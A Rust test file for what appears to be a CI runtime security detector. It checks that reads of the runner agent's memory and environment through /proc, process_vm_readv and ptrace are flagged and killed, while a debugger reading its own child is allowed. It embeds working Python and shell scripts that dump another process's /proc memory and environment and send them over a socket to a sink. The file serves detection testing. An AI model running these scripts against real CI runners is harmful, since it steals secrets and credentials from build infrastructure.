//! Ways into other processes: into the agent, which no build has business with, and into one's own children, where debuggers
//! and crash reporters live.

use detector::{
    engine::{Finding, Mode, Severity, Verdict},
    event::{Access, Actor, Door, Outcome as Fate, Process, Relation},
};
use detector_tests::{fixture::binary, quarantine, run::Job, scene::Scene, watched::Watched};
use std::{collections::BTreeSet, fs, time::Duration};

type Result = anyhow::Result<()>;

const SOON: Duration = Duration::from_secs(5);
const SIGKILL: u8 = 9;

/// Reads a file of a process in /proc and sends what it read.
const LOOK: &str = r#"
import os, socket, sys
pid, door, sink = sys.argv[1:]
start = 0
if door == "mem":
    with open(f"/proc/{pid}/maps") as maps:
        start = next(int(line.split("-")[0], 16) for line in maps if line.endswith("[heap]\n"))
with open(f"/proc/{pid}/{door}", "rb", 0) as file:
    file.seek(start)
    text = file.read(64 << 10)
host, port = sink.split(":")
with socket.create_connection((host, int(port)), timeout=5) as out:
    out.sendall(b"looked at " + door.encode() + b"\n" + text)
"#;

/// Starts a child that holds a build artefact, looks at it through every door of /proc, and sends what it found.
const DEBUG: &str = r#"
import socket, subprocess, sys
fixture, artifact, sink = sys.argv[1:]
child = subprocess.Popen([fixture, "hold", artifact], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
assert child.stdout.readline() == b"ready\n"
text = b""
with open(f"/proc/{child.pid}/maps") as maps:
    start = next(int(line.split("-")[0], 16) for line in maps if line.endswith("[heap]\n"))
for door in ("environ", "maps", "smaps", "auxv", "mem", "pagemap"):
    with open(f"/proc/{child.pid}/{door}", "rb", 0) as file:
        file.seek(start if door == "mem" else 0)
        text += file.read(132 << 10)
child.stdin.close()
assert child.wait() == 0
host, port = sink.split(":")
with socket.create_connection((host, int(port)), timeout=5) as out:
    out.sendall(text)
"#;

/// `LOOK` and `DEBUG` are files: on a command line they would fill the recorded arguments.
fn shell<'a>(scene: &'a Scene, script: &str) -> anyhow::Result<Job<'a>> {
    fs::write(scene.home.tmp().join("look.py"), LOOK)?;
    fs::write(scene.home.tmp().join("debug.py"), DEBUG)?;
    Ok(scene.job(["bash", "-c", script]).env("FIXTURE", binary("fixture")?).env("ARTIFACT", scene.home.artifact()))
}

/// The accesses through `door` to process `pid`; each with who did it.
fn through(run: &Watched, door: Door, pid: u32) -> Vec<(&Actor, &Access)> {
    run.recording.accesses().filter(|(_, access)| access.door == door && access.target.pid == pid).collect()
}

/// `starttime` of /proc/PID/stat, ticks: the twentieth field after the name, which ends with the last parenthesis.
fn started(pid: u32) -> anyhow::Result<u64> {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat"))?;
    let after = stat.rsplit(')').next().unwrap_or_default();
    Ok(after.split_whitespace().nth(19).unwrap_or_default().parse()?)
}

const ALL_DOORS: &str = r#"
for door in mem environ maps smaps pagemap auxv; do
  python3 "$TMPDIR/look.py" "$AGENT_PID" $door "$SINK" &
done
"$FIXTURE" vm-readv "$AGENT_PID" "$SINK" &
wait
"$FIXTURE" ptrace "$AGENT_PID" "$SINK"
exit 0
"#;

/// What each door brings, where it leads outside the job.
const BRINGS: [(Door, Option<&str>); 8] = [
    (Door::Mem, Some("runner-memory")),
    (Door::Environ, Some("foreign-environ")),
    (Door::ProcessVmRead, Some("runner-memory")),
    (Door::PtraceAttach, Some("runner-memory")),
    (Door::Maps, None),
    (Door::Smaps, None),
    (Door::Pagemap, None),
    (Door::Auxv, None),
];

/// Every door was seen, names the agent, and brought what it should to who went through it; no one else leaks.
fn assert_doors(scene: &Scene, run: &Watched) -> anyhow::Result<BTreeSet<Process>> {
    let (pid, started) = (scene.agent.pid(), started(scene.agent.pid())?);
    let mut expected = BTreeSet::new();
    for (door, class) in BRINGS {
        let seen = through(run, door, pid);
        assert!(!seen.is_empty(), "{door:?} of the agent is not in the recording");
        for (actor, access) in seen {
            assert_eq!((access.relation, access.errno), (Relation::Outside, 0), "{door:?}");
            assert_eq!((access.program.as_deref(), access.target.start / 10_000_000), (Some("Runner.Worker"), started));
            let Some(class) = class else { continue };
            // In enforce who opens the memory does not come to send anything.
            let at_the_door = run.conclusion.mode == Mode::Enforce && class == "runner-memory";
            let rule = if at_the_door { "agent-memory" } else { "leak" };
            let found = run.conclusion.findings.iter().filter(|f| {
                // What one program does at the door is one finding.
                let own = f.process.as_ref().is_some_and(|name| name.process == actor.process);
                f.rule == rule && (own || at_the_door)
            });
            let found: Vec<_> = found.collect();
            assert!(found.iter().any(|f| f.secret.iter().any(|c| c == class)), "{door:?}: {found:#?}");
            expected.insert(actor.process);
        }
    }
    assert!(run.culprits().is_subset(&expected));
    Ok(expected)
}

#[test]
fn the_agents_memory_and_environment_do_not_leave() -> Result {
    let mut scene = Scene::new()?;
    quarantine::shorten_retries(&scene.network.job, 2)?;
    let run = Watched::run(&scene, &shell(&scene, ALL_DOORS)?.mode("enforce"))?;
    assert_eq!((run.conclusion.verdict, run.outcome.code()), (Verdict::Fail, Some(100)));
    let culprits = assert_doors(&scene, &run)?;
    let stopped = |f: &Finding| f.enforced.is_some_and(|e| e.killed && e.outcome != Fate::Passed);
    assert!(run.leaks().all(stopped), "{:#?}", run.conclusion.findings);
    assert_eq!(run.recording.killed(), culprits);
    assert_eq!(run.recording.ended_by(SIGKILL), culprits);
    // Those that brought nothing did their work.
    assert!(scene.sink.wait_for(SOON, |all| all.iter().filter(|c| c.bytes.starts_with(b"looked at")).count() == 4));
    quarantine::await_end(&run.pins()?, quarantine::GONE)?;
    scene.assert_absent_from("what arrived", &scene.sink.bytes());
    assert!(scene.agent.alive(), "the agent is left alone");
    Ok(())
}

#[test]
fn audit_sees_the_same() -> Result {
    let mut scene = Scene::new()?;
    let run = Watched::run(&scene, &shell(&scene, ALL_DOORS)?.mode("audit"))?;
    assert_eq!((run.conclusion.verdict, run.outcome.code()), (Verdict::Fail, Some(0)));
    assert_doors(&scene, &run)?;
    assert!(run.recording.killed().is_empty());
    for canary in scene.agent.canaries() {
        let arrived = scene.sink.wait_for(SOON, |all| all.iter().any(|c| canary.is_in(&c.bytes)));
        assert!(arrived, "{canary:?} did not arrive");
    }
    assert!(scene.agent.alive());
    Ok(())
}

#[test]
fn a_debugger_may_look_at_its_child() -> Result {
    let scene = Scene::new()?;
    let script = r#"
        python3 "$TMPDIR/debug.py" "$FIXTURE" "$ARTIFACT" "$SINK" || exit
        "$FIXTURE" benign-vm-readv "$SINK" "$ARTIFACT" && "$FIXTURE" benign-ptrace "$SINK" "$ARTIFACT""#;
    let run = Watched::run(&scene, &shell(&scene, script)?.mode("enforce"))?;
    assert_eq!(
        (run.conclusion.verdict, run.outcome.code()),
        (Verdict::Pass, Some(0)),
        "{:#?}",
        run.conclusion.findings
    );
    assert!(run.conclusion.findings.iter().all(|finding| finding.severity <= Severity::Low));
    let children = run.recording.ran("fixture", &["hold", &scene.home.artifact().to_string_lossy()]);
    for (door, _) in BRINGS {
        let own = |(actor, access): &(&Actor, &Access)| {
            access.door == door
                && children.contains(&access.target)
                && run.recording.forks().any(|(a, c)| a.process == actor.process && c == access.target)
        };
        let seen: Vec<_> = run.recording.accesses().filter(own).map(|(_, access)| access.relation).collect();
        assert!(!seen.is_empty() && seen.iter().all(|r| *r == Relation::Descendant), "{door:?}: {seen:?}");
    }
    let payload = scene.home.payload();
    let arrived = scene.sink.wait_for(SOON, |all| all.iter().filter(|c| payload.is_in(&c.bytes)).count() == 3);
    assert!(arrived, "what the debuggers found did not arrive");
    Ok(())
}

/// Another process of the job: its environment is not for others, its memory is the job's own.
#[test]
fn a_sibling_is_not_a_child() -> Result {
    let scene = Scene::new()?;
    let script = r#"
        mkfifo "$TMPDIR/in" "$TMPDIR/out"
        "$FIXTURE" hold "$ARTIFACT" < "$TMPDIR/in" > "$TMPDIR/out" &
        sibling=$!
        exec 4> "$TMPDIR/in"
        read -r ready < "$TMPDIR/out"
        python3 "$TMPDIR/look.py" $sibling mem "$SINK"
        echo "mem $?"
        python3 "$TMPDIR/look.py" $sibling environ "$SINK"
        echo "environ $?"
        exec 4>&-
        wait; exit 0"#;
    let run = Watched::run(&scene, &shell(&scene, script)?.mode("enforce"))?;
    assert_eq!(String::from_utf8_lossy(&run.outcome.stdout), "mem 0\nenviron 137\n");
    let leaks: Vec<_> = run.leaks().collect();
    let [leak] = leaks[..] else { panic!("{:#?}", run.conclusion.findings) };
    assert_eq!(leak.secret, ["foreign-environ"]);
    assert!(run.recording.accesses().all(|(_, access)| access.relation == Relation::Job));
    Ok(())
}
